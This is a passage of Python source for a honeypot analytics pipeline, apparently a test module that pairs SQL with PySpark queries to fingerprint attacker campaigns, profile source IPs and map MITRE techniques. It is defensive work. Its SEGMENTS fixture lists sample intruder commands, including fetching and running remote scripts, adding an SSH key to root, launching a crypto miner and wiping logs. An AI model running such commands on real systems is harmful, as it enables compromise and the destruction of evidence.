    sql(f"""SELECT f.fingerprint, array_to_string(arg_max(commands, (first_ts, session_id)), ',') AS commands,
        arg_max(command_count, (first_ts, session_id)) AS command_count, count(*) AS session_count,
        array_to_string(list(session_id ORDER BY first_ts DESC, session_id DESC)[1:20], ',') AS session_ids, i.attacker_ips, i.attacker_ip_count, h.honeypot_ids,
        {ts('min(first_ts)', 'first_seen')}, {ts('max(last_ts)', 'last_seen')}
      FROM fp f JOIN (SELECT fingerprint, array_to_string(list(source_ip ORDER BY o DESC)[1:20], ',') AS attacker_ips, count(*) AS attacker_ip_count
          FROM (SELECT fingerprint, source_ip, max((first_ts, session_id)) AS o FROM fp GROUP BY 1, 2) GROUP BY 1) i USING (fingerprint)
        JOIN (SELECT fingerprint, string_agg(honeypot_id, ',' ORDER BY o DESC) AS honeypot_ids
          FROM (SELECT fingerprint, honeypot_id, max((first_ts, session_id)) AS o FROM fp GROUP BY 1, 2) GROUP BY 1) h USING (fingerprint)
      GROUP BY f.fingerprint, i.attacker_ips, i.attacker_ip_count, h.honeypot_ids HAVING count(*) >= 2""", O.FP),
)
def campaigns_query(spark, d):
    return C.campaigns(A.events(spark, d))


@query("fingerprints", sql(f"SELECT session_id, fingerprint, command_count, {ts('first_ts')} FROM fp", O.FP))
def _fingerprints(spark, d):
    return C.fingerprints(C.command_events(A.events(spark, d))).select("session_id", "fingerprint", "command_count", "first_ts")


@query("twin_counts", sql("SELECT fingerprint, session_id, count(*) OVER (PARTITION BY fingerprint) - 1 AS twin_count FROM fp", O.FP))
def _twin_counts(spark, d):
    return C.twin_counts(C.fingerprints(C.command_events(A.events(spark, d))))


@query(
    "twins",
    sql("""SELECT session_id, twin_session_id, analysis_id, classification, risk FROM (
      SELECT f.session_id, g.session_id AS twin_session_id, a.analysis_id, a.classification, a.risk,
        row_number() OVER (PARTITION BY f.session_id ORDER BY a.created_at DESC, a.analysis_id DESC) AS r
      FROM fp f JOIN fp g ON f.fingerprint = g.fingerprint AND f.session_id <> g.session_id
      JOIN (SELECT * FROM an WHERE status = 'completed' QUALIFY row_number() OVER (PARTITION BY session_id ORDER BY created_at DESC, analysis_id DESC) = 1) a
        ON a.session_id = g.session_id) WHERE r <= 20""", O.FP, O.AN),
)
def _twins(spark, d):
    ev = A.events(spark, d)
    return C.twins(C.fingerprints(C.command_events(ev)), A.analyses(ev))


SETS = f"sets AS (SELECT DISTINCT source_ip, {O.NORM.format(c='command_line')} AS command FROM ev WHERE command_line IS NOT NULL)"


@query("command_sets", sql("SELECT source_ip, command FROM sets", SETS))
def _sets(spark, d):
    return C.command_sets(A.events(spark, d))


@query(
    "similarity",
    sql("""SELECT ip, rank, other_ip, score, total FROM (
      SELECT ip, other_ip, score, row_number() OVER (PARTITION BY ip ORDER BY score DESC, other_ip) AS rank, count(*) OVER (PARTITION BY ip) AS total FROM (
        SELECT a.source_ip AS ip, b.source_ip AS other_ip, round_even(count(*) / (any_value(sa.n) + any_value(sb.n) - count(*))::DOUBLE, 3) AS score
        FROM subj JOIN sets a ON a.source_ip = subj.source_ip JOIN sets b ON a.command = b.command AND a.source_ip <> b.source_ip
        JOIN sz sa ON sa.source_ip = a.source_ip JOIN sz sb ON sb.source_ip = b.source_ip GROUP BY 1, 2) WHERE score > 0) WHERE rank <= 5""",
        SETS, "sz AS (SELECT source_ip, count(*) AS n FROM sets GROUP BY 1)",
        "subj AS (SELECT source_ip FROM ev WHERE command_line IS NOT NULL GROUP BY 1 ORDER BY count(*) DESC, source_ip LIMIT 10)"),
)
def _similarity(spark, d):
    """The ten busiest command sources, each against every other address."""
    ev = A.events(spark, d)
    busiest = (
        ev.filter("command_line IS NOT NULL").groupBy("source_ip").agg(F.count(F.lit(1)).alias("n"))
        .orderBy(F.desc("n"), F.asc("source_ip")).limit(10)
    )
    return C.similarity_top(C.similarity(C.command_sets(ev), busiest))


@query(
    "profiles",
    sql(f"""SELECT s.ip, v.risk, v.risk_score, coalesce(v.classification, 'Not yet analyzed') AS behavior_label, s.sessions,
        {ts('s.first_seen', 'first_seen')}, {ts('s.last_seen', 'last_seen')}, s.targeted_honeypots, coalesce(k.commands, 0) AS command_count,
        coalesce(k.downloads, 0) AS download_count, coalesce(t.ids, '') AS technique_ids, coalesce(l.n, 0) AS indicator_count, s.country FROM (
        SELECT attacker_ip AS ip, count(*) AS sessions, min(started_at) AS first_seen,
          arg_max(coalesce(ended_at, started_at), (started_at, session_id)) AS last_seen, string_agg(DISTINCT honeypot_name, ',' ORDER BY honeypot_name) AS targeted_honeypots,
          min(country) AS country FROM ss GROUP BY 1) s
      LEFT JOIN (SELECT attacker_ip AS ip, count(command_line) AS commands, count(file_url) AS downloads FROM ev JOIN ss USING (session_id) GROUP BY 1) k USING (ip)
      LEFT JOIN (SELECT attacker_ip AS ip, max(risk_score) AS risk_score, arg_max(risk, (risk_score, -epoch_us(created_at), risk)) AS risk,
        arg_min(classification, (created_at, analysis_id)) AS classification FROM an JOIN ss USING (session_id) GROUP BY 1) v USING (ip)
      LEFT JOIN (SELECT ip, string_agg(technique_id, ',' ORDER BY technique_id) AS ids FROM (SELECT DISTINCT attacker_ip AS ip, technique_id FROM tm JOIN an USING (analysis_id) JOIN ss USING (session_id)) GROUP BY 1) t USING (ip)
      LEFT JOIN (SELECT attacker_ip AS ip, count(DISTINCT (type, value)) AS n FROM ind_links JOIN ss USING (session_id) GROUP BY 1) l USING (ip)""",
        SESSIONS, O.AN, O.CATALOG, O.CMD_TECH, O.TM, O.RUNS, EXTRACTED),
)
def _attacker_profiles(spark, d):
    ev = A.events(spark, d)
    an = A.analyses(ev)
    return C.profiles(ev, an, A.mappings(ev, an), _links(ev))


@query(
    "profile_patterns",
    sql("""SELECT attacker_ip AS ip, p AS position, command_line FROM (SELECT attacker_ip, command_line,
      row_number() OVER (PARTITION BY attacker_ip ORDER BY started_at DESC, session_id, ts, event_id) AS p
      FROM ev JOIN ss USING (session_id) WHERE ev.command_line <> '') WHERE p <= 12""", SESSIONS),
)
def _patterns(spark, d):
    return C.profile_pattern(A.events(spark, d))


@query(
    "profile_downloads",
    sql("SELECT attacker_ip AS ip, file_name AS name, sha256, count(*) AS n FROM ev JOIN ss USING (session_id) WHERE file_url IS NOT NULL GROUP BY 1, 2, 3", SESSIONS),
)
def _downloads(spark, d):
    return C.profile_downloads(A.events(spark, d))


@query(
    "notables",
    sql(f"""SELECT id, kind, provenance, title, detail, {ts('n.happened', 'ts')}, session_id, technique_id FROM (
        SELECT 0 AS p, 'technique_first_seen:' || technique_id AS id, 'technique_first_seen' AS kind, 'OBSERVED' AS provenance,
          'First observation of ' || technique_id || ' ' || technique_name AS title, 'Matched by rule ' || rule_id || ' in session ' || session_id AS detail, ts AS happened, session_id, technique_id
        FROM (SELECT tm.*, an.session_id FROM tm JOIN an USING (analysis_id) WHERE source = 'rule' QUALIFY row_number() OVER (PARTITION BY technique_id ORDER BY ts, mapping_id) = 1)
        UNION ALL
        SELECT 0, 'campaign:' || fingerprint, 'campaign', 'CORRELATED', 'Campaign ' || fingerprint || ': ' || count(*) || ' sessions',
          'The same ' || any_value(command_count) || '-command sequence from ' || count(DISTINCT source_ip) || ' source address(es)', max(last_ts), NULL, NULL
        FROM fp GROUP BY fingerprint HAVING count(*) >= 3
        UNION ALL
        SELECT 1, 'high_risk_session:' || session_id, 'high_risk_session', 'AI INFERENCE', upper(substr(risk, 1, 1)) || substr(risk, 2) || ' risk: ' || classification,
          'Model-rated ' || risk_score || '/100 for session ' || session_id, created_at, session_id, NULL
        FROM (SELECT * FROM an WHERE risk IN ('high', 'critical') AND created_at >= {AS_OF_SQL} - INTERVAL 7 DAY
          QUALIFY row_number() OVER (PARTITION BY session_id ORDER BY created_at DESC, analysis_id DESC) = 1)) n
      WHERE n.happened >= {AS_OF_SQL} - INTERVAL 7 DAY ORDER BY p, n.happened DESC, id LIMIT 50""", O.AN, O.CATALOG, O.CMD_TECH, O.TM, O.FP),
)
def _notables(spark, d):
    ev = A.events(spark, d)
    an = A.analyses(ev)
    return C.notables(an, A.mappings(ev, an), C.campaigns(ev), AS_OF, 7)


@query(
    "coverage",
    sql(f"""SELECT c.technique_id, c.name, c.tactic, coalesce(bool_or(source = 'rule'), false) AS observed, count(DISTINCT session_id) AS session_count,
      max(confidence) AS confidence, {ts('max(tm.ts)', 'last_seen')} FROM catalog c LEFT JOIN (tm JOIN an USING (analysis_id)) ON tm.technique_id = c.technique_id GROUP BY 1, 2, 3""",
        O.AN, O.CATALOG, O.CMD_TECH, O.TM),
)
def _coverage(spark, d):
    ev = A.events(spark, d)
    an = A.analyses(ev)
    return C.coverage(reference.catalog(spark), A.mappings(ev, an), an)


@query(
    "coverage_evidence",
    sql(f"""SELECT technique_id, analysis_id, session_id, source, confidence, {ts('tm.ts', 'ts')} FROM tm JOIN an USING (analysis_id) WHERE technique_id IN (SELECT technique_id FROM catalog)""",
        O.AN, O.CATALOG, O.CMD_TECH, O.TM),
)
def _coverage_evidence(spark, d):
    ev = A.events(spark, d)
    an = A.analyses(ev)
    return C.coverage_evidence(reference.catalog(spark), A.mappings(ev, an), an)


@query(
    "coverage_totals",
    sql("""SELECT tactic, count(*) FILTER (technique_id IN (SELECT technique_id FROM tm JOIN an USING (analysis_id) WHERE source = 'rule')) AS observed, count(*) AS total FROM catalog GROUP BY 1""",
        O.AN, O.CATALOG, O.CMD_TECH, O.TM),
)
def _coverage_totals(spark, d):
    return C.coverage_totals(_coverage(spark, d))


SEGMENTS = {
    # command index -> its normalised segments, worked out by hand
    0: ["uname -a"], 1: ["cat /proc/cpuinfo"], 2: ["free -m"], 3: ["cd /tmp"], 4: ["wget http://<ip>/bins/x.sh"], 5: ["wget http://<ip>/bins/x.sh"],
    6: ["chmod 777 x.sh"], 7: ["sh x.sh"], 8: ["id"], 9: ["echo 'ssh-rsa aaaab3nza' >> /root/.ssh/authorized_keys"],
    10: ["cat /etc/passwd", "grep root", "ls -la /root"], 11: ['echo "wget http://<ip>/a"'], 12: ["nohup ./xmrig -o pool.example:3333"],
    13: ["rm -rf /var/log/*", "history -c"], 14: ["ps aux", "grep -v 'a;b'"], 15: ["sudo netstat -tulpn"], 16: ["curl -s http://<ip>/p.sh", "bash"],
    17: ["crontab -l"], 18: ["tar czf /tmp/o.tgz /etc"], 19: ["systemctl enable x.service"],
}


@query(
    "probe_candidates",
    sql("""SELECT command, count(DISTINCT session_id) AS sessions, count(DISTINCT source_ip) AS source_ips,
      CASE command WHEN 'uname -a' THEN 'uname' WHEN 'cat /proc/cpuinfo' THEN 'cpu_arch' WHEN 'cat /etc/passwd' THEN 'passwd_present' END AS covered_by
      FROM ev JOIN seg USING (command_line) WHERE NOT labels_seeded AND source_ip NOT LIKE '10.%'
      AND session_id NOT IN (SELECT session_id FROM ev WHERE password = 'pw7') GROUP BY 1""",
        O.values([(A.COMMANDS[i], s) for i, ss_ in SEGMENTS.items() for s in ss_], "seg", "command_line, command")),
)
def _candidates(spark, d):
    return C.probe_candidates(A.events(spark, d), reference.probes(spark), ["pw7"]).drop("example")


# --- ingest ---
@query(
    "geo_country",
    sql("""SELECT event_id, source_ip, CASE WHEN source_ip LIKE '62.0.1.%' THEN 'TW' WHEN source_ip LIKE '62.0.4.%' OR source_ip LIKE '62.0.5.%' OR source_ip LIKE '62.0.6.%' THEN 'BR'
      WHEN source_ip LIKE '62.0.%' THEN 'CN' WHEN source_ip LIKE '62.1.%' THEN 'US' WHEN source_ip LIKE '62.2.%' OR source_ip LIKE '62.3.%' THEN 'NL' END AS source_country FROM ev"""),
)
def _geo(spark, d):
    ev = A.events(spark, d).select("event_id", "source_ip").withColumn("source_country", F.lit(None).cast("string"))
    return ingest.geoip_country(ev, A.cidr(spark))


@query(
    "category_outcome",
    sql("""SELECT event_id, category, CASE action WHEN 'cowrie.login.success' THEN 'success' WHEN 'cowrie.login.failed' THEN 'failure' WHEN 'cowrie.command.input' THEN 'success' END AS outcome FROM ev"""),
)
def _category(spark, d):
    return A.events(spark, d).select("event_id", ingest.event_category(F.col("action")).alias("category"), ingest.event_outcome(F.col("action")).alias("outcome"))


@query(
    "web_sessions",
    sql(f"""SELECT source_ip AS ip, source_ip || '-' || n AS session_id, {ts('min(ts)', '"start"')}, {ts('max(ts)', '"end"')}, count(*) AS requests FROM (
      SELECT source_ip, ts, CAST(sum(nw2) OVER (PARTITION BY source_ip ORDER BY ts, event_id ROWS UNBOUNDED PRECEDING) AS BIGINT) AS n FROM (
        SELECT source_ip, ts, event_id, CASE WHEN epoch_us(ts) - epoch_us(lag(ts) OVER (PARTITION BY source_ip ORDER BY ts, event_id)) > 1800000000 THEN 1 ELSE 0 END AS nw2 FROM ev)) GROUP BY source_ip, n"""),
)
def _web(spark, d):
    return ingest.web_sessions(A.events(spark, d))
